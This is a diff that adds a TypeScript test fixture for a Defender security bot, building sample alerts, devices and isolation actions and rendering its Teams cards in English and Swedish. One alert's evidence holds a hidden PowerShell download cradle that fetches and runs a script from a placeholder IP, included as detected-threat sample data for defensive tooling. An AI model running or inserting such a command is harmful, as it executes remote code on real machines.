@@ -1,0 +1,151 @@
+/** Realistic Defender entities and every card rendered from them, shared by the card tests and the screenshot script. */
+import type { Attachment } from 'botbuilder';
+import { viewContext } from '../../src/cards/format';
+import { renderCard, type CardName } from '../../src/cards/render';
+import {
+  actionStatusView, auditView, alertListView, alertView, buttonTitles, confirmActionView, deviceChoicesView, deviceView, actionsView, helpView,
+  messageView, type CardAction, type CardRefresh,
+} from '../../src/cards/views';
+import type { IsolationState } from '../../src/defender/isolation';
+import type { Alert, AlertEvidence, Machine, MachineAction } from '../../src/defender/model';
+
+export const NOW = new Date('2024-05-01T15:00:00Z');
+export const LOCALES = ['en-US', 'sv-SE'] as const;
+
+// ---------------------------------------------------------------- realistic Defender entities
+
+export function evidence(entityType: string, fields: Partial<AlertEvidence> = {}): AlertEvidence {
+  return {
+    entityType, evidenceCreationTime: '2024-05-01T11:58:03.1234567Z', sha1: null, sha256: null, fileName: null, filePath: null,
+    processId: null, processCommandLine: null, processCreationTime: null, parentProcessId: null, parentProcessCreationTime: null,
+    parentProcessFileName: null, parentProcessFilePath: null, ipAddress: null, url: null, registryKey: null, registryHive: null,
+    registryValueType: null, registryValue: null, accountName: null, domainName: null, userSid: null, aadUserId: null,
+    userPrincipalName: null, detectionStatus: 'Detected', ...fields,
+  };
+}
+
+export function alert(fields: Partial<Alert> = {}): Alert {
+  return {
+    id: 'da638500125839210000_-1234567890', incidentId: 4711, investigationId: null, assignedTo: 'alice@contoso.onmicrosoft.com',
+    severity: 'High', status: 'New', classification: null, determination: null, investigationState: 'Running',
+    detectionSource: 'WindowsDefenderAtp', detectorId: '7f1c3609-a3ff-40e2-995b-c01770161d68', category: 'CommandAndControl',
+    threatFamilyName: null, threatName: null, title: 'Suspicious PowerShell download cradle',
+    description: 'A PowerShell process downloaded and ran a script from an uncommon host.',
+    alertCreationTime: '2024-05-01T12:00:00.1234567Z', firstEventTime: '2024-05-01T11:58:00Z', lastEventTime: '2024-05-01T11:59:00Z',
+    lastUpdateTime: '2024-05-01T14:30:00Z', resolvedTime: null, machineId: 'a'.repeat(40), computerDnsName: 'pc-finance-07.contoso.local',
+    rbacGroupName: 'Finance', aadTenantId: '11111111-2222-3333-4444-555555555555', mitreTechniques: ['T1059.001', 'T1105'],
+    relatedUser: { userName: 'frank', domainName: 'CONTOSO' }, loggedOnUsers: [{ accountName: 'frank', domainName: 'CONTOSO' }],
+    comments: [],
+    evidence: [
+      evidence('Process', { fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', processId: 4242,
+        processCommandLine: 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')"' }),
+      evidence('File', { fileName: 'a.ps1', filePath: 'C:\\Users\\frank\\AppData\\Local\\Temp', sha1: 'f'.repeat(40) }),
+      evidence('User', { accountName: 'frank', domainName: 'CONTOSO' }),
+      evidence('Ip', { ipAddress: '203.0.113.9' }),
+    ],
+    domains: [], ...fields,
+  };
+}
+
+export function machine(fields: Partial<Machine> = {}): Machine {
+  return {
+    id: 'a'.repeat(40), computerDnsName: 'pc-finance-07.contoso.local', firstSeen: '2023-01-10T08:00:00Z', lastSeen: '2024-05-01T12:00:00Z',
+    osPlatform: 'Windows11', osVersion: null, version: '23H2', osProcessor: 'x64', osArchitecture: '64-bit', osBuild: 22631,
+    agentVersion: '10.8470.22621.1023', lastIpAddress: '10.1.7.23', lastExternalIpAddress: '198.51.100.20',
+    ipAddresses: [
+      { ipAddress: '10.1.7.23', macAddress: '00155D0A0B0C', type: 'Ethernet', operationalStatus: 'Up' },
+      { ipAddress: 'fe80::1c2d:3e4f:5a6b:7c8d', macAddress: '00155D0A0B0C', type: 'Ethernet', operationalStatus: 'Up' },
+      { ipAddress: '127.0.0.1', macAddress: null, type: 'SoftwareLoopback', operationalStatus: 'Up' },
+      { ipAddress: '192.168.56.1', macAddress: '0A0027000011', type: 'Ethernet', operationalStatus: 'Down' },
+    ],
+    healthStatus: 'Active', onboardingStatus: 'Onboarded', riskScore: 'High', exposureLevel: 'Medium', deviceValue: 'High',
+    rbacGroupId: 103, rbacGroupName: 'Finance', isAadJoined: true, aadDeviceId: null, machineTags: ['finance', 'vip'],
+    defenderAvStatus: 'Updated', managedBy: 'Intune', managedByStatus: 'Managed', isPotentialDuplication: false, isExcluded: false,
+    exclusionReason: null, mergedIntoMachineId: null, vmMetadata: null, ...fields,
+  };
+}
+
+export function machineAction(fields: Partial<MachineAction> = {}): MachineAction {
+  return {
+    id: '8af71966-1b7c-4d1e-a5c2-0c0e4a9d7f10', type: 'Isolate', title: null, scope: 'Full', requestor: 'alice@contoso.onmicrosoft.com',
+    requestorComment: 'Isolating: alert 4711, C2 beaconing', status: 'Succeeded', machineId: 'a'.repeat(40),
+    computerDnsName: 'pc-finance-07.contoso.local', creationDateTimeUtc: '2024-05-01T12:00:00.8785235Z',
+    lastUpdateDateTimeUtc: '2024-05-01T12:04:10.1000000Z', cancellationRequestor: null, cancellationComment: null,
+    cancellationDateTimeUtc: null, errorHResult: 0, externalId: null, requestSource: 'PublicApi', relatedFileInfo: null, commands: [],
+    troubleshootInfo: null, ...fields,
+  };
+}
+
+export function isolated(action = machineAction()): IsolationState {
+  return { isolated: true, scope: 'Full', pending: null, last: action };
+}
+
+/** A button as the bot makes them: signed data with a nested params object. */
+export function button(title: string, verb: string, params: Record<string, string>, style?: CardAction['style']): CardAction {
+  return { title, verb, data: { p: params, c: '19:abc@thread.tacv2', t: 1714575600, s: `sig-${verb}-${Object.values(params).join('-')}` }, ...(style ? { style } : {}) };
+}
+
+export const REFRESH: CardRefresh = { verb: 'device.refresh', data: { p: { machineId: 'a'.repeat(40) }, c: '19:abc', t: 1714575600, s: 'sig' }, userIds: ['29:alice', '29:bob'] };
+
+// ---------------------------------------------------------------- every card, both locales
+
+export const isolateButton = button('Isolate device', 'isolate.ask', { machineId: 'a'.repeat(40), back: 'device' }, 'destructive');
+export const releaseButton = button('Release from isolation', 'release.ask', { machineId: 'a'.repeat(40), back: 'device' }, 'positive');
+
+/** Every card with realistic data in a locale, with the buttons (titled in that locale, as the bot does) and refresh it was given. */
+export function everyCard(locale: string): Record<CardName, { card: Attachment; buttons: CardAction[]; refresh?: CardRefresh }> {
+  const context = viewContext(locale, NOW);
+  const titles = buttonTitles(locale);
+  const release = { ...releaseButton, title: titles.release };
+  const openButtons = [alert(), alert({ id: 'da2', severity: 'Low', status: 'InProgress', title: 'Unwanted software' })]
+    .map((item) => ({ alert: item, open: button(titles.open, 'alert.open', { alertId: item.id }) }));
+  const machines = [machine(), machine({ id: 'b'.repeat(40), computerDnsName: 'pc-finance-08.contoso.local', healthStatus: 'Inactive' })];
+  const choices = machines.map((item) => ({ machine: item, open: button(titles.open, 'device.open', { machineId: item.id }) }));
+  const confirm = button(titles.confirmIsolate, 'isolate.confirm', { machineId: 'a'.repeat(40) }, 'destructive');
+  const cancel = button(titles.cancel, 'response.cancel', { machineId: 'a'.repeat(40), back: 'device' });
+  const retry = button('Try again', 'help.show', {});
+  const history = [machineAction(), machineAction({ id: 'x2', type: 'RunAntiVirusScan', scope: 'Quick', status: 'InProgress' })];
+  return {
+    help: { card: renderCard('help', helpView({ didYouMean: 'alerts' }, context), locale), buttons: [] },
+    'alert-list': {
+      card: renderCard('alert-list', alertListView({ items: openButtons, filter: { severities: ['High'], statuses: ['New', 'InProgress'], mine: true } }, context), locale),
+      buttons: openButtons.map((item) => item.open),
+    },
+    alert: {
+      card: renderCard('alert', alertView({ alert: alert(), isolation: isolated(), buttons: [release], refresh: REFRESH }, context), locale),
+      buttons: [release], refresh: REFRESH,
+    },
+    device: {
+      card: renderCard('device', deviceView({
+        machine: machine(), isolation: isolated(), recentActions: history, openAlerts: [alert()], buttons: [release], refresh: REFRESH,
+      }, context), locale),
+      buttons: [release], refresh: REFRESH,
+    },
+    'confirm-action': {
+      card: renderCard('confirm-action', confirmActionView({ kind: 'isolate', machine: machine(), comment: 'C2 beaconing', confirm, cancel }, context), locale),
+      buttons: [confirm, cancel],
+    },
+    'action-status': {
+      card: renderCard('action-status', actionStatusView({ action: machineAction(), requestorName: 'Alice Admin', buttons: [release], refresh: REFRESH }, context), locale),
+      buttons: [release], refresh: REFRESH,
+    },
+    actions: { card: renderCard('actions', actionsView({ device: 'pc-finance-07.contoso.local', actions: history }, context), locale), buttons: [] },
+    'device-choices': {
+      card: renderCard('device-choices', deviceChoicesView({ query: 'pc-finance', ambiguous: true, choices }, context), locale),
+      buttons: choices.map((choice) => choice.open),
+    },
+    message: {
+      card: renderCard('message', messageView({
+        kind: 'error', title: 'Defender is busy', text: 'Too many requests; try again in a minute.', suggestions: ['alerts high'], buttons: [retry],
+      }, context), locale),
+      buttons: [retry],
+    },
+    audit: {
+      card: renderCard('audit', auditView({ device: 'pc-finance-07.contoso.local', entries: [
+        { time: '2024-05-01T11:00:00Z', upn: 'bob@contoso.com', computerDnsName: 'pc-finance-07.contoso.local', action: 'Isolate', comment: 'C2 beaconing', result: 'Succeeded' },
+        { time: '2024-05-01T10:00:00Z', upn: 'carol@contoso.com', computerDnsName: 'pc-finance-07.contoso.local', action: 'Unisolate', comment: 'oops', result: 'refused' },
+      ] }, context), locale),
+      buttons: [],
+    },
+  };
+}
